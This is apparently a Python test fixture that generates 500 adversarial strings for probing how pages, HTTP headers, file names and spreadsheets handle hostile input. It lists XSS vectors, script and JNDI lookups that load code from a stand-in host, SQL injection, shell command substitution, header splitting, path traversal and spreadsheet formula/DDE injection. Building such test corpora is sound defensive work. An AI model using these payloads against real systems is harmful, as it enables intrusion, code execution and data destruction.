"""Five hundred strings that somebody might give as a name, a title, a message or a file's name, hoping that a page, a header or a spreadsheet
takes them for something else. Always the same ones.

A string is carried between marks, `Hq017:…:017Hq`, so that wherever it stands it can be found and compared to the letter.
"""
import itertools
import random
import re

CANARY = "canary()"  # what every script among them would call

_SCRIPTS = [
    "<script>canary()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>canary()</script>", "<script/x>canary()</script>",
    "<img src=x onerror=canary()>", "<img/src=x/onerror=canary()>", "<IMG \"\"\"><SCRIPT>canary()</SCRIPT>\">", "<svg onload=canary()>", "<svg/onload=canary()>",
    "<svg><script>canary()</script></svg>", "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:canary()><text x=20 y=20>x</text></a>",
    "<math><mi//xlink:href=\"data:x,<script>canary()</script>\">", "<body onload=canary()>", "<input autofocus onfocus=canary()>", "<select autofocus onfocus=canary()>",
    "<textarea autofocus onfocus=canary()>", "<details open ontoggle=canary()>", "<video><source onerror=canary()>", "<audio src=x onerror=canary()>",
    "<marquee onstart=canary()>", "<iframe src=javascript:canary()>", "<iframe srcdoc=\"<script>canary()</script>\">", "<object data=javascript:canary()>",
    "<embed src=javascript:canary()>", "<form action=javascript:canary()><button>x</button></form>", "<button formaction=javascript:canary()>x</button>",
    "<a href=javascript:canary()>x</a>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import'//evil.example'</style>", "<style>*{display:none}</style>", "<!--<img src=\"--><img src=x onerror=canary()>\">", "<![CDATA[<script>canary()</script>]]>",
    "<?xml version=\"1.0\"?><x/>", "<noscript><p title=\"</noscript><img src=x onerror=canary()>\">", "<template><script>canary()</script></template>",
    "<plaintext>", "<xmp><script>canary()</script></xmp>", "<title></title><script>canary()</script>", "<textarea></textarea><script>canary()</script>",
    "<isindex type=image src=1 onerror=canary()>", "<div style=\"position:fixed;inset:0;background:red\">x</div>", "<p style=width:expression(canary())>",
    "<x onclick=canary() tabindex=1 id=x></x><input autofocus onfocus=canary()>", "<a id=forms><a id=forms name=body>", "<form id=main><input name=nodeType>",
    "<dialog open>Skriv ditt lösenord</dialog>", "<portal src=//evil.example>", "<bgsound src=//evil.example>", "<frameset onload=canary()>",
    "<table background=//evil.example/x.png>", "<keygen autofocus onfocus=canary()>", "<menuitem onclick=canary()>", "<applet code=x>", "<a ping=//evil.example href=/>x</a>",
    "<img srcset=//evil.example/x.png>", "<picture><source srcset=//evil.example/x.png><img></picture>", "<script type=module>import'//evil.example'</script>",
]
_ATTRIBUTES = [f"{quote}{close} {what}" for quote in ('"', "'", "`", "\\\"", "&quot;") for close in (">", "")
               for what in ("onmouseover=canary() x=", "autofocus onfocus=canary() x=", "style=color:red x=", "><img src=x onerror=canary()>")]
_TEMPLATES = [
    "{{token}}", "{{#menu}}{{token}}{{/menu}}", "{{{token}}}", "{{>top}}", "{{token:none}}", "{{!comment}}", "{{=<% %>=}}", "{{%AUTOESCAPE context=\"HTML\"}}", "[[frame.sign_out]]",
    "[[>top]]", "[[", "]]", "{{", "}}", "{", "}", "{name}", "{who} {what}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "{{constructor.constructor('canary()')()}}", "<#assign x=1>", "*{7*7}", "@(1+1)", "%{7*7}", "{{BI_NEWLINE}}", "**fet**", "[länk](javascript:canary())", "$(touch /tmp/x)", "`touch /tmp/x`",
    "%s%s%s%n", "%n%n%n%n", "%x %p", "{0}", "\\u003cscript\\u003e",
]
_CONTROLS = [0x00, 0x01, 0x02, 0x07, 0x08, 0x09, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9d, 0x9f]
_BIDI = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x2028, 0x2029]
_INVISIBLE = [0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2060, 0x2061, 0x2064, 0x206a, 0x206f, 0xfeff, 0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x3164, 0xfff9,
              0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0xfdd0, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0x1d173, 0x10ffff, 0xf8ff]
_EMOJI = ["😀", "👩‍👩‍👧‍👦", "🏴‍☠️", "🇸🇪", "👍🏿", "❤️‍🔥", "🧑🏽‍🚀", "🫥🫥🫥", "👁️‍🗨️", "🏳️‍🌈🏳️‍⚧️", "1️⃣2️⃣", "🤷🏻‍♂️", "👨‍👨‍👦‍👦👨‍👨‍👦‍👦", "🅰️🅱️", "💩" * 12, "😀" * 30, "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇸🇪🇳🇴🇩🇰🇫🇮", "☺️☺︎", "🀄🃏"]
_SQL = [
    "' OR '1'='1", "'; DROP TABLE person; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "' UNION SELECT NULL,NULL--", "admin'--", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master)--",
    "'; PRAGMA key=''; --", "'; ATTACH DATABASE '/tmp/x' AS x; --", "\\'; DROP TABLE row; --", "%' LIKE '%", "_%_%_", "') OR ('a'='a", "1/**/OR/**/1=1", "0x27204f52", "' || (SELECT 1) || '",
    "Robert'); DROP TABLE students;--", "?1", ":id", "@id", "$1", "NULL", "null", "undefined", "NaN", "true", "None", "[object Object]", "x'00'", "'' ; ''",
]
_HEADERS = [
    "a\r\nSet-Cookie: x=1", "a\nSet-Cookie: x=1", "a\rSet-Cookie: x=1", "a\r\n\r\n<script>canary()</script>", "%0d%0aSet-Cookie:%20x=1", "a\u2028Location: //evil.example", "a\u560d\u560aX: y",
    "x\"; filename=\"y.exe", "x\"\r\nX-Evil: 1", "x; filename*=UTF-8''evil.html", "x\\\"; filename=evil.exe", "=?utf-8?B?ZXZpbA==?=", "a\x00.pdf", "a.pdf\x00.exe", "HTTP/1.1 200 OK", "GET / HTTP/1.1",
    "Transfer-Encoding: chunked", "Content-Length: 0", "Host: evil.example", "x\tX: y", "a\r\n X: folded", "\r\n", "\n\n\n", "a\x0bX: y", "--boundary--", "; name=\"token\"",
]
_FILES = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x.exe", "\\\\evil.example\\share", "CON", "NUL.txt", "aux.pdf", ".htaccess", ".", "..", "...", " ", "a/b/c", "a:b", "a*b?c", "a|b",
    "x.pdf.exe", "x.html", "x.svg", "x.pdf ", "x.pdf.", "-rf", "--help", "~root", "$HOME", "%APPDATA%", "desktop.ini", "x.lnk", "file:///etc/passwd", "\u202egpj.exe", "a" * 60 + ".pdf", "å" * 60 + ".pdf",
]
_ADDRESSES = [
    "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()", " javascript:canary()", "javascript&colon;canary()", "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", "vbscript:canary()", "//evil.example", "https://evil.example/", "https://evil.example@localhost/", "http://localhost:1/", "/\\evil.example",
    "\\/\\/evil.example", "/leave", "/sign-out", "?back=//evil.example", "#main", "mailto:x@evil.example", "tel:112", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "about:blank",
    "view-source:https://evil.example", "https://еvil.example/", "https://xn--vil-6cd.example/", "ftp://evil.example", "ws://evil.example", "intent://x#Intent;end", "file://localhost/etc/passwd",
]
_ENTITIES = [
    "&lt;script&gt;canary()&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#0;", "&#x202e;", "&nbsp;", "&shy;", "&NewLine;", "&Tab;", "&lpar;", "&amp", "&amp;amp;", "&", "&&&&",
    "&#xD800;", "&#1114112;", "&unknown;", "&copy", "&notit;", "<b>fet</b>", "<i>", "</p></main></body></html>", "</bdi></h1>", "<br>", "<hr>", "</option><option>x", "</select>", "</textarea>x", "</title>x",
    "</a><a href=//evil.example>", "<", ">", "<<<>>>", "\"", "'", "''\"\"", "`", "\\", "%3Cscript%3E", "+ADw-script+AD4-", "\u02bahej\u02ba", "＜script＞canary()＜/script＞", "‹script›",
]
_FORMULAS = [
    "=1+1", "=HYPERLINK(\"//evil.example\";\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=IMPORTXML(\"//evil.example\")", "＝1+1", "＋1", "－1", "＠x", "−1", ";=1+1", "|=1+1",
    " =1+1", "\"=1+1\"", "'=1+1", ",=1+1", "a;=1+1", "a\t=1+1", "DDE(\"cmd\";\"/C calc\")", "=DDE(\"x\")", "%=1", "=", "+", "-", "@",
]
_LANGUAGES = [
    "Åsa Öberg-Ärlig", "Łukasz Żółć", "Nguyễn Thị Ánh", "Дмитрий", "أحمد بن علي", "שלום עולם", "محمد 123 ABC", "ABC עברית 123 DEF", "山田太郎", "김철수", "กรุงเทพมหานคร", "நிகோலாய்", "ትግርኛ", "Ḱ̄rístos", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗",
    "ﷺ", "﷽", "ffi ﬁ ﬂ", "İıŞş", "ßẞ", "ǅ", "Ω≈ç√∫", "؜abc", "​", "’‘‚„“”«»", "…–—―", "¿¡", "№ ℡ ™", "①②③", "𓂀𓃰", "᚛ᚄᚓᚐᚋᚒᚄ", "ꙮ", "𐍈", "ᐊᓂ", "Ｆｕｌｌ", "ｱｲｳ", "Ǎǎ", "e\u0301e\u0301", "i̇", "O'Brien", "d'Arc-Ménard", "von der Leyen",
    "null-Null", "Test Testsson; Test", "a" * 40 + " " + "b" * 40, "W" * 70, "i" * 90, "nbsp\u00a0\u00a0\u00a0här", "en\u2003em", "  mellanslag  ", "tab\tb", "rad\nbryt",
]
# Not Unicode at all, as bytes of a form (percent-encoded) or of JSON.
BROKEN_BYTES = [
    b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"\xed\xbf\xbf", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xbf\xbf", b"a\xc3", b"a\xe2\x82", b"a\xf0\x9f\x98", b"\xc3\x28",
    b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc", b"\xfc\x80\x80\x80\x80\x80", b"abc\x00def", b"\x00", b"\xc3\xa5\x00", b"\xef\xbf\xbe\xff",
]
# Unpaired halves of a character, as JSON writes them.
LONE_SURROGATES = ["\\ud800", "\\udfff", "\\ud83d", "\\ude00", "a\\ud800b", "\\udc00\\ud800", "\\ud800\\ud800", "\\ud83d\\u0041"]


def _zalgo(number):
    chance = random.Random(number)
    marks = [chr(code) for code in itertools.chain(range(0x300, 0x36f), range(0x483, 0x488), range(0x20d0, 0x20f1))]
    return "".join(letter + "".join(chance.choice(marks) for _ in range(chance.randrange(4, 9))) for letter in "Zalgo " + str(number))


def _mixed(number):
    """Pieces of all families together."""
    chance = random.Random(1000 + number)
    pieces = _SCRIPTS + _ATTRIBUTES + _TEMPLATES + _SQL + _ADDRESSES + _ENTITIES + _FORMULAS + _EMOJI + _LANGUAGES
    return "".join(chance.choice(pieces)[:40] for _ in range(3))


def strings():
    """At most 170 bytes each, so that they go with their marks wherever a name goes."""
    out = [*_SCRIPTS, *_ATTRIBUTES, *_TEMPLATES]
    out += [f"a{chr(code)}b" for code in _CONTROLS] + [f"abc{chr(code)}fdp.exe" for code in _BIDI] + [f"a{chr(code)}b" for code in _INVISIBLE]
    out += [*_EMOJI, *_SQL, *_HEADERS, *_FILES, *_ADDRESSES, *_ENTITIES, *_FORMULAS, *_LANGUAGES]
    out += [_zalgo(number) for number in range(8)]
    out += [_mixed(number) for number in range(max(0, 500 - len(out)))]
    return [one if len(one.encode()) <= 170 else one.encode()[:170].decode("utf-8", "ignore") for one in out][:500]


def moves_or_turns(character):
    """base/utf8.h: controls, ends of lines and of paragraphs, and what turns text around."""
    code = ord(character)
    return code < 0x20 or 0x7f <= code < 0xa0 or 0x2028 <= code <= 0x202e or 0x2066 <= code <= 0x2069


def is_text(text, layout="\t\n\r"):
    """What the rules take (policy/terms.h)."""
    return not any(moves_or_turns(one) and one not in layout for one in text)


BLANKS = r"[ \t\n\r\f\v\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000\ufeff]+"


def shown(text):
    """What a page shows of it: what would move a cursor or turn text around is a space; how many spaces is the browser's business."""
    return re.sub(BLANKS, " ", "".join(" " if moves_or_turns(one) else one for one in text)).strip(" ")


def marked(number, text):
    return f"Hq{number:03}:{text}:{number:03}Hq"


def unmarked(text):
    """The numbers and texts in it."""
    return [(int(found[1]), found[2]) for found in re.finditer(r"Hq(\d{3}):(.*?):\1Hq", text, re.DOTALL)]
